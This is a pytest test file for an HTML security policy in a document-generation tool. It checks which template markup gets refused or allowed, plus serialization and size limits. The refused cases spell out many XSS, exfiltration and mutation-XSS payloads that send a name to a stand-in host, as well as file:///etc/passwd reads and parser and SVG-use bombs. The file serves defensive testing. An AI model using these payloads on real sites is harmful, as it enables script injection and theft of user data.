"""The HTML policy, construct by construct: what it refuses, what it allows, what it writes.

Every case is a complete coach's markup as the template would print it; the browser test
(``test_html_browser.py``) opens the same kinds of payload in Chromium.
"""

from __future__ import annotations

import time

import pytest

from briefgen.errors import TemplateError
from briefgen.pipeline import prepare
from briefgen.templating import html_tree
from briefgen.templating.html_policy import (
    CONTENT_SECURITY_POLICY,
    MAX_SVG_USES,
    HTMLPolicyError,
    check_html,
    secure_html,
)
from briefgen.templating.html_tree import MAX_DEPTH, MAX_ELEMENTS, parse_html, serialize, shape
from briefgen.themes import theme_names

from ..conftest import REFERENCE, raw_html

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
X = "http://127.0.0.1:9/?n=Priya"  # where an attacker would send the name
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'

# id: (markup, a part of the message that must name the problem)
REFUSED = {
    # what a browser's parser sees and a regex or html.parser does not
    "refresh": ('<meta http-equiv="refresh" content="0; url=http://x.invalid/">', "refresh"),
    "refresh-case-space": ('<meta http-equiv=" ReFreSh " content="0">', "refresh"),
    "refresh-after-empty-comment": ('<!--><meta http-equiv=refresh content="0;url=//x">-->',
                                    "refresh"),
    "refresh-after-script-x": ("<script>1</script x><meta http-equiv=refresh content=0>", "refresh"),
    "base-after-script-x": ('<script></script x><base href="http://x.invalid/">', "<base>"),
    "refresh-in-noscript": ("<noscript><meta http-equiv=refresh content=0></noscript>", "noscript"),
    "set-cookie": ('<meta http-equiv="set-cookie" content="a=b">', "set-cookie"),
    "base": ("<base href=x>", "<base>"),
    "base-bare": ("<base>", "<base>"),
    # elements that only fetch or run
    "script": ("<script>fetch('//x')</script>", "<script> runs code"),
    "svg-script": (f"{SVG}<script>1</script></svg>", "<svg:script> runs code"),
    "iframe": (f'<iframe src="{PIXEL}"></iframe>', "<iframe>"),
    "iframe-srcdoc": ('<iframe srcdoc="<img src=//x>"></iframe>', "<iframe>"),
    "frameset": ('<frameset><frame src="x.html"></frameset>', "<frameset>"),
    "object": ('<object data="x.svg"></object>', "<object>"),
    "embed": (f'<embed src="{PIXEL}">', "<embed>"),
    "applet": ("<applet code=x></applet>", "<applet>"),
    "portal": ("<portal src=x></portal>", "<portal>"),
    "noscript": ("<noscript><p title='</noscript><img src=//x>'></p></noscript>", "noscript"),
    "plaintext": ("<plaintext>rest", "<plaintext>"),
    # hints
    **{f"link-{rel}": (f'<link rel="{rel}" href="{PIXEL}">', f'rel="{rel}"')
       for rel in ("dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "modulepreload")},
    "link-hint-case": ('<link rel="Stylesheet PreFetch" href="//x">', 'rel="prefetch"'),
    # addresses in attributes, however written
    "img": (f'<img src="{X}">', X),
    "img-entity": ('<img src="&#104;ttp://127.0.0.1:9/?n=Priya">', X),
    "img-hex-entity": ('<img src="&#x68;&#x74;tp://127.0.0.1:9/?n=Priya">', X),
    "img-named-entity": ('<img src="http&colon;//127.0.0.1:9/?n=Priya">', X),
    "img-spaces": (f'<img src="  \t{X}  ">', X),
    "img-controls": (f'<img src="\x01\x1f{X}\x0b">', X),
    "img-tab-newline": ('<img src="ht\ttp:/\n/127.0.0.1:9/?n=Priya">', X),
    "img-case": ('<img src="HtTp://127.0.0.1:9/?n=Priya">', "HtTp://127.0.0.1:9"),
    "img-unquoted": ("<img src=http://127.0.0.1:9/?n=Priya>", X),
    "img-scheme-relative": ('<img src="//127.0.0.1:9/">', "'//127.0.0.1:9/'"),
    "img-backslashes": ('<img src="\\\\127.0.0.1\\x">', "127.0.0.1"),
    "img-relative": ('<img src="logo.png">', "{% if for_pdf %}"),
    "img-absolute-path": ('<img src="/etc/passwd">', "'/etc/passwd'"),
    "img-file": ('<img src="file:///etc/passwd">', "file:///etc/passwd"),
    "img-javascript": ('<img src="javascript:1">', "javascript:1"),
    "head-attribute-then-img": ('<head data-x="a>b"><img src="&#104;ttp://127.0.0.1:9/?n=Priya">', X),
    "srcset-second": (f'<img srcset="{PIXEL} 1x, {X} 2x">', X),
    "srcset-commas": (f'<img srcset=",,{X},, 1x">', X),
    "srcset-parens": (f'<img srcset="{PIXEL} (a,b) 1x, {X} 2x">', X),
    "source-srcset": (f'<picture><source srcset="{X}"><img src="{PIXEL}"></picture>', X),
    "imagesrcset": (f'<link rel=icon href="{PIXEL}" imagesrcset="{X} 1x">', X),
    "video-poster": (f'<video poster="{X}"></video>', X),
    "video-src": (f'<video src="{X}"></video>', X),
    "audio-source": (f'<audio><source src="{X}"></audio>', X),
    "track": (f'<video><track src="{X}"></video>', X),
    "input-image": (f'<input type=image src="{X}">', X),
    "form-action": (f'<form action="{X}" method=post><input name=n value=Priya></form>', X),
    "formaction": (f'<form><button formaction="{X}">go</button></form>', X),
    "body-background": (f'<body background="{X}">', X),
    "table-background": (f'<table background="{X}"><tr><td>x</td></tr></table>', X),
    "cite": (f'<blockquote cite="{X}">q</blockquote>', X),
    "longdesc": (f'<img src="{PIXEL}" longdesc="{X}">', X),
    "manifest": (f'<html manifest="{X}">', X),
    "attributionsrc": (f'<img src="{PIXEL}" attributionsrc="{X}">', X),
    "stylesheet": (f'<link rel=stylesheet href="{X}">', X),
    "icon": (f'<link rel=icon href="{X}">', X),
    "svg-image-href": (f'{SVG}<image href="{X}"/></svg>', X),
    "svg-image-xlink": (f'{SVG}<image xlink:href="{X}"/></svg>', X),
    "svg-image-xlink-bare": (f'<svg><image xlink:href="{X}"/></svg>', X),
    "svg-feimage": (f'{SVG}<filter id=f><feImage href="{X}"/></filter></svg>', X),
    "svg-use-external": (f'{SVG}<use href="{X}#a"/></svg>', "may only point inside the brief"),
    "svg-use-data": (f'{SVG}<use href="data:image/svg+xml,<svg/>#a"/></svg>', "only point inside"),
    "svg-fill": (f'{SVG}<rect fill="url({X}#p)"/></svg>', X),
    "svg-animate-href": (f'{SVG}<a href="#"><set attributeName="href" to="{X}"/></a></svg>',
                         "animates an address"),
    "xml-base": (f'{SVG}<a xml:base="http://x.invalid/" href="#a">a</a></svg>', "x.invalid"),
    # hyperlinks: only http(s), mailto, tel and fragments; never ping
    "a-javascript": ('<a href="javascript:fetch(1)">x</a>', "a link may go to"),
    "a-javascript-padded": ('<a href=" java\tscript:1">x</a>', "javascript:1"),
    "a-file": ('<a href="file:///etc/passwd">x</a>', "a link may go to"),
    "a-relative": ('<a href="notes.txt">x</a>', "a link may go to"),
    "a-data": (f'<a href="{PIXEL}">x</a>', "a link may go to"),
    "a-ping": (f'<a href="https://example.com/" ping="{X}">x</a>', "sends a request when"),
    "area-ping": (f'<map name=m><area href="#a" ping="{X}"></map>', "sends a request when"),
    "svg-a-javascript": (f'{SVG}<a href="javascript:1"><text>x</text></a></svg>', "a link may go"),
    # CSS, in <style> and in style=""
    "css-url": (f"<style>body{{background:url({X})}}</style>", X),
    "css-url-quoted": (f'<style>body{{background:url("{X}")}}</style>', X),
    "css-url-case-space": (f"<style>body{{background:URL(  '{X}'  )}}</style>", X),
    "css-escaped-function": (f"<style>body{{background:u\\72l({X})}}</style>", X),
    "css-escaped-url": ("<style>body{background:url(\\68ttp://127.0.0.1:9/?n=Priya)}</style>", X),
    "css-import": (f'<style>@import "{X}";</style>', "@import"),
    "css-import-url": (f"<style>@import url({X}) screen;</style>", X),
    "css-import-escaped": (f"<style>@\\69mport '{X}';</style>", "@import"),
    "css-import-data": ("<style>@import 'data:text/css,p{}';</style>", "@import"),
    "stylesheet-data": ('<link rel=stylesheet href="data:text/css,@import url(//x)">', "may not hold"),
    "manifest-data": ('<link rel=manifest href="data:application/json,{}">', "may not hold a data"),
    "form-action-data": ('<form action="data:text/html,x"></form>', "may not hold a data: URI"),
    "css-image-set": (f'<style>p{{background:image-set("{X}" 1x)}}</style>', X),
    "css-webkit-image-set": (f'<style>p{{background:-webkit-image-set("{X}" 1x)}}</style>', X),
    "css-font-face": (f'<style>@font-face{{font-family:F;src:url({X}) format("woff2")}}</style>', X),
    "css-custom-property": (f"<style>:root{{--bg:url({X})}}</style>", X),
    "css-var-in-image-set": ("<style>p{background:image-set(var(--u) 1x)}</style>", "var()"),
    "css-bad-url": ("<style>p{background:url(var(--u))}</style>", "cannot be read"),
    "style-ends-early": ('<style>p{content:"</style><img src=//x>"}</style>', "'//x'"),
    "style-markup": ('<style>p{content:"<img src=//x>"}</style>', "contains '<'"),
    "style-markup-in-svg-confusion": ("<style>a{}<img src=//x></style>", "contains '<'"),
    "xmp-markup": ("<xmp><img src=//x></xmp>", "contains '<'"),
    "noframes-markup": ("<noframes><p>x</p></noframes>", "contains '<'"),
    "css-in-svg-style": (f"{SVG}<style>rect{{fill:url(&#104;ttp://127.0.0.1:9/?n=Priya)}}</style></svg>",
                         X),
    "style-attribute": (f'<p style="background:url({X})">x</p>', "style attribute of <p>"),
    "style-attribute-entity": ('<p style="background:url(&#104;ttp://127.0.0.1:9/?n=Priya)">x</p>', X),
    "style-attribute-svg": (f'{SVG}<rect style="fill:url({X})"/></svg>', X),
    "template-contents": (f'<template><img src="{X}"></template>', X),
    "shadow-root": (f'<div><template shadowrootmode=open><img src="{X}"></template></div>', X),
    "math-href": (f'<math><mi href="{X}">x</mi></math>', X),
}

ALLOWED = {
    "data-image": f'<img src="{PIXEL}" alt="">',
    "data-image-padded": f'<img src="  {PIXEL}\n">',
    "data-srcset": f'<img srcset="{PIXEL} 1x, {PIXEL} 2x" src="{PIXEL}">',
    "empty-src": '<img src="" alt="">',
    "fragment-link": '<a href="#project-1">Project 1</a><section id="project-1"></section>',
    "https-link": '<a href="https://example.com/portfolio">portfolio</a>',
    "http-link": '<a href="http://example.com/">site</a>',
    "mailto-link": '<a href="mailto:priya@example.com">mail</a>',
    "tel-link": '<a href="tel:+15550100">call</a>',
    "area-link": '<map name=m><area href="https://example.com/" alt=x></map>',
    "svg-link": f'{SVG}<a href="https://example.com/"><text>x</text></a></svg>',
    "inline-style": '<p style="color:#1f4e79;font-weight:600">x</p>',
    "style-element": "<style>@page{size:letter}@media print{p{color:#000}}p{margin:0 0 4pt}</style>",
    "style-child-combinator": '<style>ul > li + li ~ li { margin: 0 } p::after { content: "< 3" }</style>',
    "css-data-url": f"<style>p{{background:url({PIXEL})}}@font-face{{src:url({PIXEL})}}</style>",
    "css-data-image-set": f'<style>p{{background:image-set("{PIXEL}" 1x)}}</style>',
    "css-namespace": "<style>@namespace svg url(http://www.w3.org/2000/svg);</style>",
    "css-fragment": f'{SVG}<defs><linearGradient id=g></linearGradient></defs><rect fill="url(#g)"/></svg>',
    "svg-use": f'{SVG}<symbol id=i><path d="M0 0h4v4z"/></symbol><use href="#i"/>'
               '<use xlink:href="#i"/></svg>',
    "svg-data-image": f'{SVG}<image href="{PIXEL}"/></svg>',
    "svg-image-svg": "<img src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'>"
                     "<image href='http://x.invalid/a.png'/></svg>\">",  # an image loads nothing
    "template": '<template id=t><p class="x">in a template</p></template>',
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">",
    "meta-compatible": '<meta http-equiv="X-UA-Compatible" content="IE=edge">',
    "meta-name": '<meta name="og:image" content="https://example.com/a.png">',
    "link-icon-data": f'<link rel="icon" href="{PIXEL}">',
    "math": "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>",
    "text-that-looks-like-urls": f"<p>see {X} and url({X}) and @import '{X}'</p>",
    "title-attribute": f'<p title="{X}">x</p>',
}


@pytest.mark.parametrize("markup,expected", REFUSED.values(), ids=REFUSED.keys())
def test_refused(markup, expected):
    findings = check_html(markup)
    assert findings, markup
    with pytest.raises(TemplateError) as caught:
        secure_html(markup)
    message = str(caught.value)
    assert message.startswith("not allowed in a template")
    assert expected in message, message


@pytest.mark.parametrize("markup", ALLOWED.values(), ids=ALLOWED.keys())
def test_allowed(markup):
    assert check_html(markup) == []
    html = secure_html(markup)
    assert html.startswith("<!DOCTYPE html>\n<html")
    assert parse_html(html).find(".//{http://www.w3.org/1999/xhtml}body") is not None


def test_every_problem_is_listed_with_its_text_and_tag():
    markup = (f'<meta http-equiv=refresh content=0><img src="{X}"><script></script>'
              '<link rel=prefetch href="#a"><p style="background:url(//y.invalid/)">')
    findings = check_html(markup)
    assert [(f.tag, f.text) for f in findings] == [
        ("meta", '<meta http-equiv="refresh">'), ("img", X), ("script", "<script>"),
        ("link", '<link rel="prefetch">'), ("p", "//y.invalid/")]
    assert findings[1].where == "<img src>"
    with pytest.raises(HTMLPolicyError) as caught:
        secure_html(markup)
    assert caught.value.findings == findings
    for part in ("refresh", "<script>", 'rel="prefetch"', repr(X), "'//y.invalid/'"):
        assert part in str(caught.value)


def test_a_hyperlink_fetches_nothing_but_its_ping_is_refused():
    assert check_html('<a href="https://example.com/">x</a>') == []
    assert check_html('<a href="https://example.com/" ping="">x</a>') == []
    assert check_html('<a href="https://example.com/" ping="https://example.com/p">x</a>')


# --- the written document -------------------------------------------------------------------

def head_children(html: str) -> list[tuple[str, dict[str, str]]]:
    head = parse_html(html).find("{http://www.w3.org/1999/xhtml}head")
    assert head is not None
    return [(child.tag.rpartition("}")[2], dict(child.attrib)) for child in head]


POLICY = ("meta", {"http-equiv": "Content-Security-Policy", "content": CONTENT_SECURITY_POLICY})
CHARSET = ("meta", {"charset": "utf-8"})


@pytest.mark.parametrize("markup", [
    '<!DOCTYPE html><html lang="en"><head data-x="a>b"><title>t</title></head><body>x</body></html>',
    '<!DOCTYPE html><html><head data-x="a>b"><meta charset=utf-8><title>t</title>',
    f'<img src="{PIXEL}"><p>junk</p><!DOCTYPE html><html lang="en"><head><title>t</title></head>',
    "text before <html><head><title>t</title></head>",
    "<!-- a note --><!--><html><!-- x --><head><title>t</title>",
    "<title>t</title>",
    "",
    '<head><meta http-equiv="content-type" content="text/html; charset=iso-2022-jp"><title>t</title>',
    '<body><meta charset="windows-1252"><p>x</p>',
], ids=["gt-in-head-attribute", "gt-and-charset", "junk-before-html", "text-before-html",
        "comments", "no-html-no-head", "empty", "other-charset", "charset-in-body"])
def test_the_policy_is_the_first_thing_in_head(markup):
    html = secure_html(markup)
    children = head_children(html)
    assert children[:2] == [POLICY, CHARSET]
    assert CHARSET not in children[2:] and all("http-equiv" not in a for _, a in children[2:])
    assert html.count("<meta charset=") == 1  # the file is UTF-8, whatever the template said
    assert len(html[:html.index("<meta charset")].encode()) < 1024
    assert "<!--" not in html


def test_doctype_and_lang_are_kept():
    html = secure_html('<!DOCTYPE html>\n<html lang="hi">\n<head></head><body>हिन्दी</body></html>')
    assert html.startswith('<!DOCTYPE html>\n<html lang="hi"><head>')
    assert "हिन्दी" in html


def test_an_overlong_html_tag_is_refused_so_the_encoding_stays_declared_in_time():
    with pytest.raises(TemplateError, match="first 1024 bytes"):
        secure_html(f'<html lang="en" class="{"x" * 1200}"><body>x</body>')


def test_a_short_text_that_names_a_file_is_text_not_the_file():
    html = secure_html("/etc/passwd")
    assert "root:x:0:0" not in html and "<body>/etc/passwd</body>" in html


def test_markup_that_reads_back_differently_is_refused():
    # Nested forms, kept by the parser here, are dropped when read again: a second document.
    with pytest.raises(TemplateError, match="does not read back as the same document"):
        secure_html("<form id=a><div></form><form id=b><input></form>")
    # Namespace confusion, the mutation-XSS shape: an <img> hidden in an SVG <style> attribute.
    with pytest.raises(TemplateError, match="does not read back"):
        secure_html('<svg></p><style><a id="</style><img src=//x>"></a></style></svg>')


SERIALIZED = {
    "text-escaping": ("<p>a &amp; b &lt; c &gt; d\u00a0e</p>", "<p>a &amp; b &lt; c &gt; d&nbsp;e</p>"),
    "attribute-escaping": ("<p title='say \"a&amp;b\" <x>\u00a0'></p>",
                           '<p title="say &quot;a&amp;b&quot; &lt;x&gt;&nbsp;"></p>'),
    "void-elements": ("<p>a<br/>b<hr><img src=''>", '<p>a<br>b</p><hr><img src="">'),
    "raw-text": ("<style>p > a { content: '&amp;' }</style>",
                 "<style>p > a { content: '&amp;' }</style>"),
    "rcdata": ("<title>a &lt;b&gt; &amp;</title>", "<title>a &lt;b&gt; &amp;</title>"),
    "pre-newline": ("<pre>\n\nx</pre>", "<pre>\n\nx</pre>"),
    "svg-names": (f'{SVG}<foreignObject><p>x</p></foreignObject><use xlink:href="#a"/></svg>',
                  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                  '<foreignObject><p>x</p></foreignObject><use xlink:href="#a"></use></svg>'),
    "svg-style-is-not-raw": ("<svg><style>a&lt;b</style></svg>", "<svg><style>a&lt;b</style></svg>"),
    "math": ("<math><mi>x</mi></math>", "<math><mi>x</mi></math>"),
    "table": ("<table><tr><td>x</table>", "<table><tbody><tr><td>x</td></tr></tbody></table>"),
}


@pytest.mark.parametrize("markup,expected", SERIALIZED.values(), ids=SERIALIZED.keys())
def test_serialization_follows_the_standard(markup, expected):
    html = secure_html(markup)
    assert expected in html, html


def round_trips(html: str) -> None:
    tree = parse_html(html)
    once = serialize(tree)
    assert shape(parse_html(once)) == shape(tree)
    assert serialize(parse_html(once)) == once


@pytest.mark.parametrize("theme", theme_names())
def test_packaged_themes_round_trip(theme):
    raw = raw_html(prepare(REFERENCE, theme=theme))
    round_trips(raw)
    assert check_html(raw) == []
    secured = secure_html(raw)
    round_trips(secured)
    assert secure_html(secured) == secured  # idempotent


@pytest.mark.parametrize("markup", [*ALLOWED.values(), *(s for s, _ in SERIALIZED.values())],
                         ids=[*ALLOWED, *SERIALIZED])
def test_allowed_markup_round_trips(markup):
    round_trips(markup)


# --- limits -----------------------------------------------------------------------------------

def refused_quickly(markup: str, expected: str) -> None:
    start = time.monotonic()
    with pytest.raises(TemplateError) as caught:
        secure_html(markup)
    assert time.monotonic() - start < 3
    message = str(caught.value)
    assert expected in message and "protects the render" in message, message
    assert check_html(markup)


def test_too_many_elements():
    assert check_html("<span>a</span>" * (MAX_ELEMENTS - 10)) == []
    refused_quickly("<span>a</span>" * (MAX_ELEMENTS + 1), f"more than {MAX_ELEMENTS:,} elements")


def test_too_deep():
    assert check_html("<div>" * (MAX_DEPTH - 10)) == []
    refused_quickly("<div>" * (MAX_DEPTH + 1), f"more than {MAX_DEPTH} deep")


def test_misnested_formatting_is_stopped_while_parsing():
    # 12 KB that the parser turns into 346,000 elements: stopped at the element limit.
    bomb = "".join(f"<p><b x={i}></p>" for i in range(300)) + "<p>x</p>" * 1000
    refused_quickly(bomb, "elements")


def test_too_many_svg_uses():
    symbol = '<symbol id="i"><path d="M0 0h1v1z"/></symbol>'
    assert check_html(f"<svg>{symbol}{'<use href=#i />' * MAX_SVG_USES}</svg>") == []
    refused_quickly(f"<svg>{symbol}{'<use href=#i />' * (MAX_SVG_USES + 1)}</svg>",
                    f"more than {MAX_SVG_USES} SVG <use>")


@pytest.mark.parametrize("markup", [
    '<svg><g id="a"><path d="M0 0"/></g><g id="b"><use href="#a"/><use href="#a"/></g>'
    '<g id="c"><use href="#b"/><use href="#b"/></g><use href="#c"/></svg>',
    '<svg><g id="loop"><use xlink:href="#loop"/></g></svg>',
], ids=["laughs", "cycle"])
def test_nested_svg_use(markup):
    refused_quickly(markup, "nested <use> is not allowed")


def test_parse_time_is_bounded(monkeypatch):
    monkeypatch.setattr(html_tree, "MAX_PARSE_SECONDS", -1.0)
    refused_quickly("<p>" + "a&amp;" * 1000, "to read")
